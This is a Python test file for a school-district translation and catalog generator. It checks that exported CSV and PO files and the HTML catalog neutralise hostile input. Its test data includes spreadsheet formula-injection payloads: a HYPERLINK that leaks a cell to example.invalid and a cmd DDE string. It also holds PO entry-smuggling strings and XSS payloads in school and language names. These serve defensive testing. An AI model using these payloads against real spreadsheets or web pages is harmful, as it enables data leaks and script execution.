"""Everything the tool writes is safe to open: spreadsheet cells never become formulas, PO
files keep hostile text exactly, and the catalog page runs only its own script, checked in
Debian's Chromium with hostile school names, language names and translations."""

from __future__ import annotations

import csv
import io
import json
import re
from html import unescape
from pathlib import Path

import jinja2
import markupsafe
import polib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import run_cli
from generator import catalog, csp
from generator.schema import hidden_character_problems
from generator.spreadsheet import FORMULA_TRIGGERS, csv_text, neutralise_cell, read_csv, restore_cell
from generator.translations import export_csv, export_po, import_csv, import_po

# --- spreadsheets ---------------------------------------------------------------------------

HOSTILE_CELLS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click for help")',
    "=cmd|'/c calc'!A1",
    "+1+2", "-2+3", "@SUM(1+1)*cmd|'/c calc'!A1", "\t=1+1", "\r=1+1", "\0=1",
    "- bring the school letter", "+1 860 555 0100 (a translation may start with a plus)",
    "'=already quoted", "'", "''", "'-'", "'plain apostrophe start",
    "", "=", "-", "plain text", "a=b", " =1+1",
]


def spreadsheet_would_evaluate(cell: str) -> bool:
    return cell.startswith(FORMULA_TRIGGERS)


@pytest.mark.parametrize("value", HOSTILE_CELLS)
def test_a_neutralised_cell_is_never_a_formula_and_restores_exactly(value):
    assert not spreadsheet_would_evaluate(neutralise_cell(value))
    assert restore_cell(neutralise_cell(value)) == value


@settings(max_examples=500, deadline=None)
@given(st.text(alphabet=st.sampled_from("=+-@'\t\r\0 ax\"\n,;") | st.characters(), max_size=12))
def test_neutralising_reverses_exactly_for_any_text(value):
    cell = neutralise_cell(value)
    assert restore_cell(cell) == value
    assert not spreadsheet_would_evaluate(cell)


@pytest.mark.parametrize("cell", ["=1+1", "-5", "+x", "@x", "'abc", "'", "plain"])
def test_import_reads_a_cell_it_did_not_neutralise_as_literal_text(cell):
    # A spreadsheet may save a cell back without the quote; it stays the text it is.
    header, rows = read_csv(csv_text([["a"]]) + f'"{cell}"\r\n')
    assert header == ["a"] and rows == [{"a": cell}]


def language_with(project, strings: dict[str, str]):
    from dataclasses import replace

    language = project.languages["es"]
    return replace(language, strings=dict(language.strings, **strings))


HOSTILE_TRANSLATIONS = {  # keys from en.yaml, values a hostile or merely unusual translator could write
    "doc_title": '=HYPERLINK("http://example.invalid/","Haga clic")',
    "tagline": "- Todos los niños pueden ir a la escuela pública.",
    "school_heading": "+ Todos los niños tienen derecho a ir a la escuela",
    "legal_heading": "@Ayuda legal",
    "fair_heading": "'=Su hijo debe recibir un trato justo",
}


def test_csv_export_of_hostile_translations_has_no_cell_a_spreadsheet_evaluates(project):
    language, source = language_with(project, HOSTILE_TRANSLATIONS), project.languages["en"]
    text = export_csv(language, source)
    assert text.startswith("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")) for cell in row]
    assert cells and not [c for c in cells if spreadsheet_would_evaluate(c)]
    imported = import_csv(text)
    assert imported.strings == language.strings  # "-" and "+" at the start survive exactly
    assert imported.sources == language.sources


def hostile_data(data_copy: Path) -> Path:
    path = data_copy / "languages" / "es.yaml"
    text = path.read_text(encoding="utf-8")
    for key, value in HOSTILE_TRANSLATIONS.items():
        text, count = re.subn(rf"^  {key}: .*$", f"  {key}: {json.dumps(value, ensure_ascii=False)}", text, count=1, flags=re.M)
        assert count == 1, key
    path.write_text(text, encoding="utf-8")
    return path


@pytest.mark.parametrize("fmt", ["csv", "po"])
def test_hostile_translations_survive_export_and_import_through_the_command_line(data_copy, tmp_path, fmt):
    es = hostile_data(data_copy)
    assert run_cli("check", "--data", str(data_copy)).returncode in (0, 1)
    exported = tmp_path / f"es.{fmt}"
    result = run_cli("translations", "--data", str(data_copy), "export", "--lang", "es", "--format", fmt, "--out", str(exported))
    assert result.returncode == 0, result.stderr
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(exported.read_text(encoding="utf-8-sig"), newline="")))
        assert not [c for row in rows for c in row if spreadsheet_would_evaluate(c)]
    before = es.read_bytes()
    result = run_cli("translations", "--data", str(data_copy), "import", str(exported), "--lang", "es")
    assert result.returncode == 0, result.stderr
    assert es.read_bytes() == before


def test_a_csv_import_refuses_a_source_hash_that_is_not_one(data_copy, tmp_path):
    exported = tmp_path / "es.csv"
    run_cli("translations", "--data", str(data_copy), "export", "--lang", "es", "--format", "csv", "--out", str(exported))
    header, rows = read_csv(exported.read_text(encoding="utf-8"))
    for row in rows:
        if row["key"] == "doc_title":
            row["stale"], row["source_hash"] = "yes", 'abc"\n  doc_title: "changed behind your back'
    exported.write_text(csv_text([header] + [[row[c] for c in header] for row in rows]), encoding="utf-8")
    before = (data_copy / "languages" / "es.yaml").read_bytes()
    result = run_cli("translations", "--data", str(data_copy), "import", str(exported), "--lang", "es")
    assert result.returncode == 2 and "is not a source hash" in result.stderr and "Traceback" not in result.stderr
    assert (data_copy / "languages" / "es.yaml").read_bytes() == before


PO_HOSTILE = [
    '" \nmsgctxt "doc_title"\nmsgstr "injected',
    "\\\" \\n \\\\ \t \r \x0b \x0c #, fuzzy",
    "line one\n#~ msgid \"obsolete\"\nline three\n",
    "=HYPERLINK(\"http://example.invalid\")",
    "ends with a backslash \\",
]


@pytest.mark.parametrize("msgstr", PO_HOSTILE)
def test_po_export_keeps_a_hostile_msgstr_exactly(project, msgstr):
    language, source = language_with(project, {"doc_title": msgstr}), project.languages["en"]
    code, imported = import_po(export_po(language, source))
    assert code == "es"
    assert imported.strings == language.strings
    assert len(polib.pofile(export_po(language, source))) == len(source.strings)  # no entry smuggled in


@settings(max_examples=300, deadline=None)
@given(st.text(st.characters(blacklist_categories=("Cs",)) | st.sampled_from('"\\\n\t#~|'), min_size=1, max_size=40)
       .filter(lambda text: not hidden_character_problems(text)))
def test_po_export_keeps_any_msgstr_a_language_file_may_hold_exactly(project, msgstr):
    language, source = language_with(project, {"doc_title": msgstr}), project.languages["en"]
    _, imported = import_po(export_po(language, source))
    assert imported.strings["doc_title"] == msgstr


@pytest.mark.parametrize("separator", ["\x1e", "\x85", "\u2028", "\u2029"])
def test_po_export_refuses_text_a_po_file_would_cut_rather_than_lose_it(project, separator):
    language = language_with(project, {"doc_title": f"first{separator}second"})
    with pytest.raises(ValueError, match="doc_title"):
        export_po(language, project.languages["en"])


# --- the content security policy -------------------------------------------------------------

class FakeProject:
    district = {"name": "Hartford Public Schools", "information_as_of": "2026-11-28"}


def one_document(**values) -> dict:
    document = {"lang": "es", "endonym": "Español", "language": "Spanish", "direction": "ltr", "school_name": "Lincoln",
                "layout": "handout", "paper": "letter", "thumbnail": "thumbnails/es.png", "path": "es.pdf",
                "translation_status": "draft", "reviewed_by": "", "reviewed_on": ""}
    document.update(values)
    return document


def policy_of(html: str) -> dict[str, list[str]]:
    [content] = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', html)
    directives = [d.strip().split() for d in markupsafe.Markup(content).unescape().split(";")]
    return {d[0]: d[1:] for d in directives if d}


def inline(html: str, tag: str) -> list[str]:
    return re.findall(rf"<{tag}>(.*?)</{tag}>", html, flags=re.S)


def test_the_catalog_policy_allows_exactly_its_own_script_and_style_by_hash():
    html = catalog.catalog_html([one_document()], FakeProject())
    policy = policy_of(html)
    [script], [style] = inline(html, "script"), inline(html, "style")
    assert policy["script-src"] == [csp.source_hash(script)]  # the text actually written, hashed
    assert policy["style-src"] == [csp.source_hash(style)]
    assert policy["default-src"] == policy["object-src"] == policy["base-uri"] == policy["form-action"] == ["'none'"]
    assert policy["img-src"] == ["'self'"]
    assert not re.search(r"unsafe|https?:|\*", " ".join(sum(policy.values(), [])))
    assert '<meta name="referrer" content="no-referrer">' in html
    assert html.index("Content-Security-Policy") < html.index("<style>") < html.index("<script>")


def test_the_hash_follows_the_template_it_is_never_written_down(tmp_path):
    source = (catalog.TEMPLATE_DIR / "catalog.html.j2").read_text(encoding="utf-8")
    changed = source.replace("input.addEventListener", "/* reviewed change */ input.addEventListener")
    env = jinja2.Environment(loader=jinja2.DictLoader({"page": changed}), autoescape=True, undefined=jinja2.StrictUndefined)
    env.filters.update(catalog._environment().filters)
    env.globals.update(catalog._environment().globals)
    context = {"district": "D", "information": "Information as of November 28, 2026", "groups": catalog.language_groups([one_document()]), "count": 1, "web": {}}
    html = csp.render_protected(env.get_template("page"), context)
    [script] = inline(html, "script")
    assert "reviewed change" in script and policy_of(html)["script-src"] == [csp.source_hash(script)]
    assert policy_of(html)["script-src"] != policy_of(catalog.catalog_html([one_document()], FakeProject()))["script-src"]


def test_a_script_block_cannot_take_data():
    env = jinja2.Environment(autoescape=True, undefined=jinja2.StrictUndefined)
    template = env.from_string('<meta http-equiv="Content-Security-Policy" content="{{ content_security_policy }}">'
                               "<script>{% block script %}var school = '{{ school }}';{% endblock %}</script>")
    with pytest.raises(jinja2.UndefinedError):
        csp.render_protected(template, {"school": "x"})


def test_a_page_whose_escaping_failed_is_refused_before_it_is_written(monkeypatch):
    unescaped = catalog._environment()
    unescaped.autoescape = False
    monkeypatch.setattr(catalog, "_environment", lambda: unescaped)
    for school in ["<script>window.__pwned=1</script>", '<img src=x onerror="window.__pwned=1">',
                   '<a href="javascript:window.__pwned=1">x</a>', "<base href='http://example.invalid/'>",
                   "<p style='background:red'>x</p>"]:
        with pytest.raises(csp.UnsafePage):
            catalog.catalog_html([one_document(school_name=school)], FakeProject())


# --- the catalog in Chromium with hostile data ----------------------------------------------

SCHOOL = "<img src=x onerror=\"window.__pwned='school'\"><script>window.__pwned='school-script'</script> Lincoln Elementary"
ENDONYM = "Español<script>window.__pwned='endonym'</script><a id=\"bad\" href=\"javascript:void(window.__pwned='endonym-link')\">x</a>"
NAME_EN = "Spanish<svg onload=\"window.__pwned='name'\"></svg>"
TITLE = "<img src=x onerror=\"window.__pwned='title'\"> javascript:window.__pwned='title-url' Los derechos"
DISTRICT = "Hartford Public Schools<script>window.__pwned='district'</script>"
PAYLOADS = [SCHOOL, ENDONYM, NAME_EN, TITLE, DISTRICT]


@pytest.fixture(scope="module")
def hostile_catalog(tmp_path_factory):
    import shutil

    from conftest import ROOT

    data = tmp_path_factory.mktemp("hostile") / "data"
    shutil.copytree(ROOT / "data", data)
    replace_line(data / "schools.yaml", r"^    name: .*$", f"    name: {json.dumps(SCHOOL)}")
    replace_line(data / "district.yaml", r"^name: .*$", f"name: {json.dumps(DISTRICT)}")
    es = data / "languages" / "es.yaml"
    replace_line(es, r"^endonym: .*$", f"endonym: {json.dumps(ENDONYM, ensure_ascii=False)}")
    replace_line(es, r"^name_en: .*$", f"name_en: {json.dumps(NAME_EN)}")
    replace_line(es, r"^  doc_title: .*$", f"  doc_title: {json.dumps(TITLE, ensure_ascii=False)}")
    out = data.parent / "out"
    # The half-sheet leaves the long hostile names room (on a handout they rightly overflow).
    result = run_cli("build", "--data", str(data), "--lang", "es", "--lang", "en", "--layout", "half-sheet", "--paper", "letter", "--out", str(out))
    assert result.returncode == 0 and (out / "index.html").is_file(), result.stderr
    return out


def replace_line(path: Path, pattern: str, line: str) -> None:
    text, count = re.subn(pattern, line.replace("\\", "\\\\"), path.read_text(encoding="utf-8"), count=1, flags=re.M)
    assert count == 1, (path, pattern)
    path.write_text(text, encoding="utf-8")



def open_page(browser, path: Path):
    """A page with a record of console messages and of every policy violation."""
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    page.messages = []
    page.on("console", lambda message: page.messages.append(f"{message.type}: {message.text}"))
    page.on("pageerror", lambda error: page.messages.append(f"pageerror: {error}"))
    page.add_init_script("window.__violations = []; document.addEventListener('securitypolicyviolation',"
                         " e => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));")
    page.goto(path.as_uri())
    page.evaluate("document.querySelectorAll('img').forEach(img => { img.loading = 'eager'; })")
    # Polled from outside: Playwright's wait_for_function evaluates strings in the page, which
    # the page's own policy refuses (and reports as a violation) once the first try fails.
    for _ in range(200):
        if page.evaluate("Array.from(document.images).every(img => img.complete)"):
            break
        page.wait_for_timeout(100)
    return page


def filter_works(page, term: str, expected: int) -> bool:
    """Typing narrows the cards (so the page's own script runs), and clearing shows all."""
    everything = page.eval_on_selector_all(".card", "els => els.length")
    page.fill("#filter", term)
    narrowed = page.eval_on_selector_all(".card:not(.hidden)", "els => els.length")
    page.fill("#filter", "klingon")
    nothing = page.is_visible("#nothing")
    page.fill("#filter", "")
    return narrowed == expected and nothing and page.eval_on_selector_all(".card:not(.hidden)", "els => els.length") == everything


def test_hostile_names_and_translations_print_as_text_and_run_nothing(browser, hostile_catalog):
    page = open_page(browser, hostile_catalog / "index.html")
    try:
        assert page.evaluate("window.__pwned") is None
        body = page.inner_text("body")
        assert "Lincoln Elementary" in body and "<script>window.__pwned='endonym'</script>" in body
        assert page.evaluate("window.__violations") == []  # the page's own script and style are allowed
        assert not [m for m in page.messages if m.startswith(("error", "pageerror"))], page.messages
        assert filter_works(page, "lincoln elementary", 2)  # the school's English and Spanish handouts
        sizes = page.evaluate("Array.from(document.images).map(img => img.naturalWidth)")
        assert sizes and all(width > 0 for width in sizes)  # thumbnails from file:// still load
    finally:
        page.close()


def test_if_escaping_ever_failed_the_policy_still_stops_every_payload(browser, hostile_catalog):
    """The same page with each hostile value written raw, as if escaping had broken."""
    html = (hostile_catalog / "index.html").read_text(encoding="utf-8")
    broken = html
    for payload in PAYLOADS:
        broken = broken.replace(str(markupsafe.escape(payload)), payload)
    assert broken != html and "<script>window.__pwned='endonym'</script>" in broken
    path = hostile_catalog / "escaping-failed.html"
    path.write_text(broken, encoding="utf-8")
    page = open_page(browser, path)
    try:
        assert page.evaluate("window.__pwned") is None
        # void(): a javascript: URL that yields a string would replace the page and hide the result.
        page.click("#bad", timeout=2_000)
        page.wait_for_timeout(200)
        assert page.evaluate("window.__pwned") is None
        violations = page.evaluate("window.__violations")
        assert violations and all(v.split()[0].startswith("script-src") for v in violations), violations
        assert filter_works(page, "klingon", 0)  # while the page's own script still runs
        assert page.evaluate("() => { try { document.body.insertAdjacentHTML('beforeend', '<b>x</b>'); return 'markup'; }"
                             " catch (e) { return e.name; } }") == "TypeError"  # Trusted Types: no string becomes markup
    finally:
        page.close()


def test_the_real_catalog_runs_its_own_script_without_a_violation(browser, built):
    out, _ = built
    page = open_page(browser, out / "index.html")
    try:
        assert page.evaluate("window.__violations") == []
        assert not [m for m in page.messages if "Content Security Policy" in m or m.startswith("pageerror")], page.messages
        page.fill("#filter", "Dari")
        assert page.eval_on_selector_all("section.language:not(.hidden)", "els => els.length") == 1
    finally:
        page.close()


def test_hostile_names_in_the_parent_view_stay_text_and_choosing_still_works(browser, hostile_catalog):
    page = open_page(browser, hostile_catalog / "index.html")
    try:
        page.click("#to-parent")
        page.click("#parent-view button.choice[data-lang='es']")
        for _ in range(50):  # polled from outside, as above
            if page.is_visible("#chosen"):
                break
            page.wait_for_timeout(50)
        assert page.evaluate("window.__pwned") is None
        assert "<script>window.__pwned='endonym'</script>" in page.inner_text("#chosen")
        assert page.eval_on_selector_all("#chosen *", "els => els.map(e => e.tagName)") == ["STRONG", "SPAN", "SPAN", "BUTTON"]
        assert page.eval_on_selector_all("section.language:not(.hidden)", "els => els.map(e => e.dataset.lang)") == ["es"]
        assert page.evaluate("window.__violations") == []
    finally:
        page.close()


class _Ledger:
    sources = ("aclu", "idp")

    def __init__(self, date: str):
        self.date = date

    def information_date(self, sources) -> str:
        return self.date


@pytest.mark.parametrize("checked, says", [
    ("2026-11-20", "Hartford Public Schools · Information as of November 20, 2026 · 1 document."),
    ("", "Hartford Public Schools · Information not yet checked by the district (see each page's footer) · 1 document."),
])
def test_the_staff_page_says_how_current_the_information_is_in_a_sentence(checked, says):
    """The date the sources were last checked, or plainly that no one has checked them:
    never "as of" followed by no date."""
    project = FakeProject()
    project.ledger = _Ledger(checked)
    text = unescape(re.sub(r"<[^>]+>", "", catalog.catalog_html([one_document()], project)))
    assert says in text
    assert "as of not" not in text.lower()
